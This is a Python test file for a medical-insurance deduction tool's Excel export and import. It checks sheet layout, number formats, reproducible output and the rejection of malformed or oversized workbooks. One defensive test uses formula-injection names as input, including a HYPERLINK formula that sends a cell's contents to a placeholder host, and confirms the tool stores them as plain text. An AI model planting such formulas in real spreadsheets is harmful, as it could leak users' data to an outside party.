"""Excel workbooks (DESIGN §13, issue 12 item 2): ``deduct --xlsx`` writes them, read back here
with calamine and looked into as the zip files they are; enrollee files may be workbooks."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
import xlsxwriter

from conftest import SAMPLE
from mediins_cli.money import yuan_to_fen
from mediins_cli.xlsx import _widths, sheet_name, workbook_bytes

MONTH = "2024-02"
ID = "110101199003077777"  # not a valid ID: never in the sample, only to show what is lost


def deduct(
    run,
    out: Path,
    *extra: object,
    round_no: int = 1,
    enrollees: Path | None = None,
    env: dict[str, str] | None = None,
):
    ledger = SAMPLE / ("ledger.csv" if round_no == 1 else "ledger-round2.csv")
    return run(
        "deduct",
        "--round",
        str(round_no),
        "--month",
        MONTH,
        "--enrollees",
        enrollees or SAMPLE / "enrollees.csv",
        "--ledger",
        ledger,
        "--out",
        out,
        *extra,
        env=env,
    )


def sheet_xml(book: Path, n: int) -> str:
    return zipfile.ZipFile(book).read(f"xl/worksheets/sheet{n}.xml").decode()


def enrollee_workbook(path: Path, *, dates_as_dates: bool = False, edit=None) -> Path:
    """The sample enrollee file as a workbook whose every cell is text, as an operator who
    formatted the columns as Text gets it (dates, when asked, as Excel's date cells)."""
    frame = pl.read_csv(SAMPLE / "enrollees.csv", infer_schema=False)
    book = xlsxwriter.Workbook(str(path), {"strings_to_numbers": False})
    sheet = book.add_worksheet("参保人员")
    date_format = book.add_format({"num_format": "yyyy-mm-dd"})
    sheet.write_row(0, 0, frame.columns)
    for r, row in enumerate(frame.iter_rows(), start=1):
        for c, (column, value) in enumerate(zip(frame.columns, row, strict=True)):
            if value is None:
                continue
            if dates_as_dates and column == "enrolled_on":
                sheet.write_datetime(r, c, dt.datetime.fromisoformat(value), date_format)
            elif dates_as_dates and column == "paid_through":  # Excel makes 2024-01 a date
                sheet.write_datetime(r, c, dt.datetime.fromisoformat(value + "-01"), date_format)
            else:
                sheet.write_string(r, c, value)
    if edit is not None:
        edit(sheet, frame.columns)
    book.close()
    return path


# --------------------------------------------------------------------------- writing


def test_round_one_writes_a_workbook_whose_sheets_are_the_csv_files(run, tmp_path):
    assert deduct(run, tmp_path, "--xlsx").exit_code == 0
    r1 = tmp_path / MONTH / "round-1"
    book = r1 / "workbook.xlsx"
    names = ["success", "failure", "retry", "skipped", "milestones"]
    assert pl.read_excel(book, sheet_id=0, engine="calamine").keys() == set(names)
    with zipfile.ZipFile(book) as z:
        listed = re.findall(r'<sheet name="([^"]+)"', z.read("xl/workbook.xml").decode())
    assert listed == names  # in the order the run wrote the files
    for name in names:
        csv = pl.read_csv(r1 / f"{name}.csv", infer_schema=False)
        sheet = pl.read_excel(book, sheet_name=name, engine="calamine")
        assert sheet.columns == csv.columns
        assert sheet.height == csv.height
        if "enrollee_id" in csv.columns and csv.height:  # 18 digits, as text, every one intact
            assert sheet.schema["enrollee_id"] == pl.String
            assert sheet["enrollee_id"].to_list() == csv["enrollee_id"].to_list()
        if "account_no" in csv.columns and csv.height:
            assert sheet["account_no"].to_list() == csv["account_no"].to_list()
        if "amount" in csv.columns and csv.height:  # numbers, the exact fen over 100
            assert sheet.schema["amount"] == pl.Float64
            fen = csv.select(yuan_to_fen(pl.col("amount")))["amount"]
            assert (sheet["amount"] * 100).round().cast(pl.Int64).to_list() == fen.to_list()
    success = pl.read_excel(book, sheet_name="success", engine="calamine")
    assert success.schema["reference"] == pl.String
    assert success.schema["deducted_on"] == pl.String  # dates as ISO text
    assert success["deducted_on"].str.contains(r"^\d{4}-\d{2}-\d{2}$").all()


def test_a_sheet_has_its_header_frozen_filters_on_amounts_in_0_00_and_text_as_text(run, tmp_path):
    assert deduct(run, tmp_path, "--xlsx").exit_code == 0
    book = tmp_path / MONTH / "round-1" / "workbook.xlsx"
    with zipfile.ZipFile(book) as z:
        styles = z.read("xl/styles.xml").decode()
        tables = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/tables/")]
        core = z.read("docProps/core.xml").decode()
    success = sheet_xml(book, 1)
    assert 'state="frozen"' in success and 'ySplit="1"' in success
    assert len(tables) == 5 and all("<autoFilter " in t for t in tables)
    formats = dict(re.findall(r'numFmtId="(\d+)" formatCode="([^"]+)"', styles))
    assert "0.00" in formats.values()
    assert "@" in formats.values() or 'numFmtId="49"' in styles  # Text
    # the ID cell of the first row is a string; its amount is a number styled 0.00
    row = re.search(r'<row r="2".*?</row>', success).group()
    cells = re.findall(r'<c r="([A-Z]+)2"([^>]*)>', row)
    assert 't="s"' in cells[0][1]  # enrollee_id
    amount = cells[4][1]  # amount: the fifth column of success.csv
    assert "t=" not in amount
    xfs = re.findall(r"<xf [^>]*>", styles.split("<cellXfs")[1])
    style = int(re.search(r's="(\d+)"', amount).group(1))
    number_format = re.search(r'numFmtId="(\d+)"', xfs[style]).group(1)
    assert formats[number_format] == "0.00"
    assert "2024-02-01T00:00:00Z" in core  # the run month, not the clock


def test_workbooks_are_the_same_bytes_when_run_again_and_listed_in_the_manifest(run, tmp_path):
    first, second = tmp_path / "a", tmp_path / "b"
    assert deduct(run, first, "--xlsx").exit_code == 0
    assert deduct(run, second, "--xlsx").exit_code == 0
    r1 = first / MONTH / "round-1"
    books = sorted(p.relative_to(r1).as_posix() for p in r1.rglob("*.xlsx"))
    assert "workbook.xlsx" in books
    agencies = sorted(p.stem for p in (r1 / "agencies").glob("*.csv"))
    assert [b for b in books if b.startswith("agencies/")] == [
        f"agencies/{a}.xlsx" for a in agencies
    ]
    manifest = json.loads((r1 / "manifest.json").read_text())
    assert manifest["format"]["xlsx"] is True
    for name in books:
        data = (r1 / name).read_bytes()
        assert data == (second / MONTH / "round-1" / name).read_bytes(), name
        assert manifest["outputs"][name] == {
            "sha256": hashlib.sha256(data).hexdigest(),
            "bytes": len(data),
        }
        assert (r1 / name).stat().st_mode & 0o077 == 0  # personal data: the owner's only
    # the same inputs again in the same folder: nothing to do, the workbooks untouched
    again = deduct(run, first, "--xlsx", "--json")
    assert again.exit_code == 0 and json.loads(again.stdout)["status"] == "unchanged"


def test_agency_workbook_holds_its_list(run, tmp_path):
    assert deduct(run, tmp_path, "--xlsx").exit_code == 0
    agencies = tmp_path / MONTH / "round-1" / "agencies"
    for csv_path in agencies.glob("*.csv"):
        csv = pl.read_csv(csv_path, infer_schema=False)
        books = pl.read_excel(csv_path.with_suffix(".xlsx"), sheet_id=0, engine="calamine")
        assert list(books) == [csv_path.stem]
        sheet = books[csv_path.stem]
        assert sheet["enrollee_id"].to_list() == csv["enrollee_id"].to_list()
        assert sheet["name"].to_list() == csv["name"].to_list()  # in pinyin order, as the CSV


def test_round_two_workbook_has_breaks_updates_and_resumptions(run, tmp_path):
    assert deduct(run, tmp_path, "--xlsx").exit_code == 0
    assert deduct(run, tmp_path, "--xlsx", round_no=2).exit_code == 0
    r2 = tmp_path / MONTH / "round-2"
    sheets = pl.read_excel(r2 / "workbook.xlsx", sheet_id=0, engine="calamine")
    assert set(sheets) == {p.stem for p in r2.glob("*.csv")}
    assert {"breaks", "updates", "resumptions"} <= set(sheets)
    breaks = sheets["breaks"]
    assert breaks.schema["unpaid_months"] == pl.Int64  # counts are numbers
    assert breaks.schema["unpaid_since"] == pl.String


def test_without_xlsx_nothing_changes(run, tmp_path):
    assert deduct(run, tmp_path).exit_code == 0
    r1 = tmp_path / MONTH / "round-1"
    assert not list(r1.rglob("*.xlsx"))
    assert "xlsx" not in json.loads((r1 / "manifest.json").read_text())["format"]


def test_setting_xlsx_asks_for_workbooks(run, tmp_path):
    (tmp_path / "mediins.toml").write_text("xlsx = true\n")
    result = deduct(run, tmp_path / "out", env={"MEDIINS_CONFIG": str(tmp_path / "mediins.toml")})
    assert result.exit_code == 0, result.stderr
    assert (tmp_path / "out" / MONTH / "round-1" / "workbook.xlsx").is_file()
    result = deduct(run, tmp_path / "env", env={"MEDIINS_XLSX": "1"})
    assert result.exit_code == 0, result.stderr
    assert (tmp_path / "env" / MONTH / "round-1" / "workbook.xlsx").is_file()


def test_return_mode_writes_workbooks_too(run, tmp_path):
    out = tmp_path / "out"
    common = ["--round", "1", "--month", MONTH, "--enrollees", SAMPLE / "enrollees.csv"]
    sent = run("instruct", *common, "--bank-format", "pipe-gb18030-fen", "--out", out)
    assert sent.exit_code == 0, sent.stderr
    result = run(
        "deduct", *common, "--returns", SAMPLE / "returns" / "round1", "--out", out, "--xlsx"
    )
    assert result.exit_code == 0, result.stderr
    r1 = out / MONTH / "round-1"
    sheets = pl.read_excel(r1 / "workbook.xlsx", sheet_id=0, engine="calamine")
    assert set(sheets) == {p.stem for p in r1.glob("*.csv")}
    assert "workbook.xlsx" in json.loads((r1 / "manifest.json").read_text())["outputs"]


def test_a_hostile_name_is_text_in_the_workbook_never_a_formula(run, tmp_path):
    hostile = ['=HYPERLINK("http://x.example/"&A1;"点我")', "-2+3", "@SUM(A1:A9)", "+1-1"]
    frame = pl.read_csv(SAMPLE / "enrollees.csv", infer_schema=False)
    names = hostile + frame["name"].to_list()[len(hostile) :]
    frame = frame.with_columns(pl.Series("name", names))
    enrollees = tmp_path / "enrollees.csv"
    frame.write_csv(enrollees)
    assert deduct(run, tmp_path / "out", "--xlsx", enrollees=enrollees).exit_code == 0
    r1 = tmp_path / "out" / MONTH / "round-1"
    book = r1 / "workbook.xlsx"
    with zipfile.ZipFile(book) as z:
        for part in z.namelist():
            if part.startswith("xl/worksheets/sheet"):
                assert "<f>" not in z.read(part).decode()  # no formula anywhere
    names = pl.concat(
        [
            s.select("name")
            for s in pl.read_excel(book, sheet_id=0, engine="calamine").values()
            if "name" in s.columns
        ]
    )["name"]
    for text in hostile:  # as the CSV has it: a leading ' (DESIGN §8), and a string
        assert f"'{text}" in names.to_list()
        assert text not in names.to_list()


def test_a_sheet_past_excels_last_row_goes_on_in_another():
    frame = pl.DataFrame({"enrollee_id": ["1", "2", "3"], "amount": ["1.00", "2.50", "-0.05"]})
    from mediins_cli import xlsx

    parts = list(xlsx._parts("success", frame)) if xlsx.MAX_ROWS > 3 else []
    assert [n for n, _ in parts] == ["success"]
    original = xlsx.MAX_ROWS
    xlsx.MAX_ROWS = 2
    try:
        parts = list(xlsx._parts("success", frame))
    finally:
        xlsx.MAX_ROWS = original
    assert [(n, p.height) for n, p in parts] == [("success", 2), ("success (2)", 1)]


def test_widths_count_chinese_characters_twice():
    frame = pl.DataFrame({"name": ["欧阳娜娜娜娜娜娜娜娜"], "code": ["abcdefghij"]})
    widths = _widths(frame)
    assert widths["name"] > widths["code"]
    assert widths["name"] - 10 == 20 * 7  # ten characters, each two wide


def test_amounts_are_exact_two_decimal_numbers():
    frame = pl.DataFrame(
        {"enrollee_id": [ID, "2"], "amount": ["0.10", "99999999.99"], "note": ["x", None]}
    )
    data = workbook_bytes([("success", frame)], dt.datetime(2024, 2, 1))
    back = pl.read_excel(io.BytesIO(data), sheet_name="success", engine="calamine")
    assert back["amount"].to_list() == [0.1, 99999999.99]
    assert back["enrollee_id"].to_list() == [ID, "2"]
    assert workbook_bytes([("success", frame)], dt.datetime(2024, 2, 1)) == data


def test_sheet_names_keep_to_excels_rules():
    assert sheet_name("CY-ZJ03") == "CY-ZJ03"
    assert sheet_name("a" * 40) == "a" * 31
    assert sheet_name("x[1]:y") == "x_1__y"


# --------------------------------------------------------------------------- reading


def test_an_enrollee_workbook_gives_the_same_run_as_the_csv(run, tmp_path):
    book = enrollee_workbook(tmp_path / "enrollees.xlsx", dates_as_dates=True)
    assert deduct(run, tmp_path / "csv").exit_code == 0
    result = deduct(run, tmp_path / "xlsx", enrollees=book)
    assert result.exit_code == 0, result.stderr
    for name in ("success.csv", "failure.csv", "retry.csv", "skipped.csv"):
        a = (tmp_path / "csv" / MONTH / "round-1" / name).read_bytes()
        assert a == (tmp_path / "xlsx" / MONTH / "round-1" / name).read_bytes(), name
    checked = run("validate", "--enrollees", book, "--ledger", SAMPLE / "ledger.csv")
    assert checked.exit_code == 0 and "(xlsx)" in checked.stdout


def test_an_id_excel_made_a_number_is_bad_input_at_its_row_with_the_fix(run, tmp_path):
    def edit(sheet, columns):
        sheet.write_number(3, columns.index("enrollee_id"), int(ID))  # row 4
        sheet.write_string(5, columns.index("enrollee_id"), "1.10101E+17")  # row 6
        sheet.write_number(7, columns.index("account_no"), 6222021234567890123)  # row 8

    book = enrollee_workbook(tmp_path / "enrollees.xlsx", edit=edit)
    result = deduct(run, tmp_path / "out", enrollees=book)
    assert result.exit_code == 2
    err = result.stderr
    assert "enrollees.xlsx:4: enrollee_id: Excel stored this ID as a number" in err
    assert "enrollees.xlsx:6: enrollee_id: Excel stored this ID as a number" in err
    assert "enrollees.xlsx:8: account_no: Excel stored this account number as a number" in err
    assert "format the column as Text" in err
    assert "BAD_ID" not in err and "checksum" not in err  # said once, as what it is
    assert ID not in err and "110101199003077" not in err and "6222021234567890" not in err
    assert not (tmp_path / "out" / MONTH).exists()  # bad input: nothing written


def test_scientific_notation_in_a_csv_is_reported_as_excels_doing(run, tmp_path):
    lines = (SAMPLE / "enrollees.csv").read_text(encoding="utf-8").splitlines()
    lines[1] = "1.10101E+17" + lines[1][lines[1].index(",") :]
    path = tmp_path / "enrollees.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = deduct(run, tmp_path / "out", enrollees=path)
    assert result.exit_code == 2
    assert "enrollees.csv:2: enrollee_id: Excel stored this ID as a number" in result.stderr


def _patched(data: bytes, sheet: bytes) -> bytes:
    """``data`` (a workbook) with its first sheet's XML replaced: a hostile file."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            part = source.read(info.filename)
            target.writestr(info.filename, sheet if info.filename.endswith("sheet1.xml") else part)
    return out.getvalue()


def _tiny() -> bytes:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    book.add_worksheet("e").write_row(0, 0, ["enrollee_id", "name"])
    book.close()
    return buffer.getvalue()


_SHEET = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
)


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("garbage.xlsx", b"this is not a workbook at all\n", "BAD_WORKBOOK"),
        ("locked.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, "BAD_WORKBOOK"),
        ("archive.xlsx", None, "BAD_WORKBOOK"),  # a zip, but no workbook in it
        ("empty.xlsx", b"", "BAD_WORKBOOK"),
        ("blank.xlsx", _SHEET % b"", "EMPTY_FILE"),
        (
            "header-only.xlsx",
            _SHEET % b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>',
            "MISSING_COLUMN",
        ),
        # 5 KB files whose cells span more than calamine can hold
        (
            "wide.xlsx",
            _SHEET % b'<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>1</v></c></row>',
            "WORKBOOK_TOO_LARGE",
        ),
        (
            "tall.xlsx",
            _SHEET
            % (
                b'<row r="1"><c r="A1"><v>1</v></c></row>'
                b'<row r="1048576"><c r="CV1048576"><v>1</v></c></row>'
            ),
            "WORKBOOK_TOO_LARGE",
        ),
        (
            "loose.xlsx",
            _SHEET % (b"<row>" + b"<c><v>1</v></c>" * 300 + b"</row>"),
            "WORKBOOK_TOO_LARGE",
        ),
    ],
)
def test_a_hostile_workbook_is_bad_input_never_a_traceback(run, tmp_path, name, content, code):
    path = tmp_path / name
    if content is None:
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("readme.txt", "hello")
    elif content.startswith(b"<?xml"):
        path.write_bytes(_patched(_tiny(), content))
    else:
        path.write_bytes(content)
    errors = tmp_path / "problems.csv"
    result = run(
        "validate", "--enrollees", path, "--ledger", SAMPLE / "ledger.csv", "--errors", errors
    )
    assert result.exit_code == 2, result.stderr
    assert code in pl.read_csv(errors)["code"].to_list()
    assert "Traceback" not in result.stderr


def test_the_ledger_may_not_be_a_workbook(run, tmp_path):
    path = tmp_path / "ledger.xlsx"
    path.write_bytes(_tiny())
    result = run("validate", "--enrollees", SAMPLE / "enrollees.csv", "--ledger", path)
    assert result.exit_code == 2
    assert "only the enrollee file may be one" in result.stderr


def test_a_chinese_agency_list_has_its_amounts_as_numbers(run, tmp_path):
    assert deduct(run, tmp_path, "--xlsx", "--lang", "zh").exit_code == 0
    agencies = tmp_path / MONTH / "round-1" / "agencies"
    for book in agencies.glob("*.xlsx"):
        sheet = pl.read_excel(book, engine="calamine")
        csv = pl.read_csv(book.with_suffix(".csv"), infer_schema=False)
        assert sheet.columns == csv.columns  # the list's own (Chinese) headers
        amounts = [c for c, dtype in sheet.schema.items() if dtype == pl.Float64]
        assert len(amounts) == 1, sheet.schema  # 应缴金额
        assert sheet[sheet.columns[0]].to_list() == csv[csv.columns[0]].to_list()  # IDs, text
